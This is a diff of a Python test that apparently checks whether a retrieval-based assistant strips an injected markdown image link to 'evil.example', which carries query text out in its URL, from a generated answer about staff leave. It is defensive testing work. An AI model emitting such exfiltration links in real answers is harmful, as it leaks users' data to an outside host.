@@ -65,7 +65,8 @@ def poisoned(index: Path, tmp_path: Path) -> Path:
 
 def test_an_address_that_no_source_holds_does_not_leave(index: Path) -> None:
     said = (
-        "Staff have 25 days of leave a year [1]. ![x](https://evil.example/?q=leave) See https://hr.example/leave [1]."
+        "Staff have 25 days of leave a year [1]. \n\n![x](https://evil.example/?q=leave)\n\n"
+        "The form is at https://hr.example/leave [1]."
     )
     shown, answer, _ = ask(index, said)
     assert "evil.example" not in shown
